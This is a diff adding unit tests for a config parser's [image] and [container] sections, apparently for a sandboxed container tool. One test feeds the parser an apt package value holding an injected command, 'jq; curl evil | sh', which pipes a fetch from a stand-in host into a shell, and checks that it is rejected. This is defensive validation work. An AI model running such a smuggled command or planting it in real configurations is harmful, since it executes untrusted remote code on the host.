@@ -70,6 +70,8 @@ describe('parseConfigText: defaults', () => {
       session: { auto_shutdown_ms: 30000 },
       mounts: [],
       network: { mode: 'allowlist' },
+      image: { apt: [], npm: [], run: [] },
+      container: {},
     });
     assert.deepEqual(ConfigSchema.parse({}), c);
   });
@@ -365,5 +367,18 @@ auto_shutdown_ms = 10
     const t = TOML.parse(out) as { network: { entries: string[] }; other: { entries: string[] } };
     assert.deepEqual(t.network.entries, ['n.com']);
     assert.deepEqual(t.other.entries, ['keep']);
+  });
+});
+
+describe('[image] and [container]', () => {
+  it('take package lists, run lines and caps', () => {
+    const c = parseConfigText('[image]\napt = ["postgresql-client"]\nnpm = ["typescript@5"]\nrun = ["echo hi"]\n[container]\ncpus = 1.5\nmemory = "1GiB"\n');
+    assert.deepEqual(c.image, { apt: ['postgresql-client'], npm: ['typescript@5'], run: ['echo hi'] });
+    assert.deepEqual(c.container, { cpus: 1.5, memory: GiB });
+  });
+  it('refuse what is not a package name, and unknown keys (no FROM, no ADD)', () => {
+    assert.throws(() => parseConfigText('[image]\napt = ["jq; curl evil | sh"]\n'), /image\.apt/);
+    assert.throws(() => parseConfigText('[image]\nfrom = "ubuntu"\n'), /from/);
+    assert.throws(() => parseConfigText('[container]\nprivileged = true\n'), /privileged/);
   });
 });
